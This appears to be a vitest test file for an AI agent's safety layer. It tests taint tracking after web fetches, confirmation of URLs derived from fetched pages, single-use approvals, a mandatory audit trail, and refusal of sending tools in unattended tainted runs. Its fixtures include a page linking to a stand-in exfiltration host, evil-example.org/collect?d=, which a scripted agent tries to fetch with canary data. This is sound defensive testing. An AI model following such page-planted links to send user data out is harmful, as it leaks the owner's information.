import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { z } from "zod";
import type { Decision } from "../../src/reply.ts";
import { defineTool, type Tool } from "../../src/tool.ts";
import { openScene, page, type Scene, type SceneOptions } from "../support/scene.ts";
import { type ScriptedTurn, scriptedModel, type Turn } from "../support/scripted-model.ts";

const open: Scene[] = [];
afterEach(async () => {
  for (const one of open.splice(0)) await one.close();
});
async function scene(turns: Turn[], options: Omit<SceneOptions, "model"> = {}): Promise<Scene> {
  const one = await openScene({ model: scriptedModel(...turns), ...options });
  open.push(one);
  return one;
}
const calls = (...made: [name: string, input: unknown][]): ScriptedTurn => ({
  calls: made.map(([name, input]) => ({ name, input })),
});
const fetchUrl = (url: string) => calls(["fetch_url", { url: `http://${url}` }]);
const pages = {
  "page.org/a": page("A", 'See <a href="http://evil-example.org/collect?d=x">this</a>.'),
  "other.org/b": page("B", "b"),
};

describe("an address in a run that is clean", () => {
  it("is opened, whoever named it", async () => {
    const one = await scene([fetchUrl("other.org/b"), "Done."], { pages });
    await one.say("what is on that page?");
    expect(one.requests).toEqual(["other.org/b"]);
    expect(one.questions).toEqual([]);
  });

  it("is asked for when it comes from what the agent said of a page: that may be what the page wants", async () => {
    const answer = "The page wants http://evil-example.org/collect?d= with your data behind it.";
    const one = await scene([fetchUrl("page.org/a"), answer, fetchUrl("evil-example.org/collect?d=CANARY"), "Done."], {
      pages,
    });
    await one.say("what does http://page.org/a say?");
    await one.say("thanks");
    expect(one.requests).toEqual(["page.org/a"]);
    expect(one.questions).toHaveLength(1);
  });

  it("is opened when it is one that the page had, whole", async () => {
    const answer = "The page leads to http://evil-example.org/collect?d=x, whatever that is.";
    const one = await scene([fetchUrl("page.org/a"), answer, fetchUrl("evil-example.org/collect?d=x"), "Done."], {
      pages,
    });
    await one.say("what does http://page.org/a say?");
    await one.say("open it");
    expect(one.requests).toEqual(["page.org/a", "evil-example.org/collect?d=x"]);
    expect(one.questions).toEqual([]);
  });

  it("is asked for beside a search in one step: which is made first must not matter", async () => {
    const both = calls(["fetch_url", { url: "http://other.org/b" }], ["web_search", { query: "b" }]);
    const one = await scene([both, "Done."], { pages });
    await one.say("look for it");
    expect(one.questions).toHaveLength(1);
    expect(one.requests).toEqual([]);
    expect(one.searches).toEqual(["b"]);
  });
});

describe("a search in a tainted run", () => {
  it("may repeat what the owner asks for now, and not what they said before", async () => {
    const search = calls(["web_search", { query: "opening hours of the museum of ancient clocks" }]);
    const one = await scene([fetchUrl("page.org/a"), search, "Done.", fetchUrl("page.org/a"), search, "Done."], {
      pages,
    });
    await one.say("http://page.org/a, and the opening hours of the museum of ancient clocks?");
    expect(one.questions).toHaveLength(0);
    await one.say("once more: http://page.org/a");
    expect(one.questions).toHaveLength(1);
    expect(one.questions[0]?.text).toContain("museum of ancient clocks");
  });
});

describe("a yes", () => {
  it("is asked for anew when what it was for has changed meanwhile", async () => {
    const answers: Decision[] = ["yes", { no: "" }];
    const one = await scene([calls(["delete_file", { path: "a" }]), "Done."], {
      async owner() {
        await writeFile(join(one.home, "workspace/a"), "much more than before");
        return answers.shift() ?? "expired";
      },
    });
    await writeFile(join(one.home, "workspace/a"), "x");
    await one.say("delete it");
    expect(one.questions.map(({ text }) => text)).toEqual(["Delete `a` (1 byte)?", "Delete `a` (21 bytes)?"]);
    expect(await one.folder.stat("a")).toBeDefined();
  });

  it("is never for the next call, even of the same kind", async () => {
    const one = await scene([calls(["delete_file", { path: "a" }], ["delete_file", { path: "b" }]), "Done."], {
      owner: ({ text }) => (text.includes("`a`") ? "yes" : { no: "" }),
    });
    for (const path of ["a", "b"]) await writeFile(join(one.home, "workspace", path), "x");
    await one.say("delete a");
    expect(await one.folder.stat("a")).toBeUndefined();
    expect(await one.folder.stat("b")).toBeDefined();
  });

  it("says in the trail what became of it", async () => {
    const one = await scene([calls(["delete_file", { path: "a" }]), "Done."], { owner: () => "yes" });
    await writeFile(join(one.home, "workspace/a"), "x");
    await one.say("delete a");
    const trail = (await one.trail()).map(({ tool, verdict }) => [tool, verdict]);
    expect(trail).toEqual([
      ["delete_file", "ask"],
      ["delete_file", "yes"],
    ]);
  });
});

describe("the trail", () => {
  it("is a condition: a call that cannot be written down is not made", async () => {
    const one = await scene([calls(["create_file", { path: "a", content: "x" }]), "Done."], {
      agent: {
        audit: {
          record() {
            throw new Error("The disk is full.");
          },
        },
      },
    });
    await one.say("write it");
    expect(await one.folder.stat("a")).toBeUndefined();
    expect(one.newest()).toContain("The disk is full.");
  });

  it("says that a run was tainted, and that nobody was there", async () => {
    const ring = defineTool({
      ...{ name: "ring_bell", description: "Rings.", input: z.object({}), effects: ["sends"] },
      run: async () => "Rang.",
    }) as unknown as Tool;
    const one = await scene([fetchUrl("page.org/a"), calls(["ring_bell", {}]), "Done."], { pages, tools: [ring] });
    await one.sayAlone("go");
    expect((await one.trail()).at(-1)).toMatchObject({ verdict: "refuse", labels: ["untrusted", "nobody-there"] });
  });
});

describe("why a run is tainted", () => {
  it("is known while it goes on, and over when it is", async () => {
    const seen: string[][] = [];
    const look = (): ScriptedTurn => {
      seen.push([...one.agent.taints(one.store.sessions.current("main", "test:room"))]);
      return "Done." as unknown as ScriptedTurn;
    };
    const one: Scene = await scene([fetchUrl("page.org/a"), look], { pages });
    await one.say("go");
    expect(seen).toEqual([["the result of fetch_url (http://page.org/a)"]]);
    expect(one.agent.taints(one.store.sessions.current("main", "test:room"))).toEqual([]);
  });
});
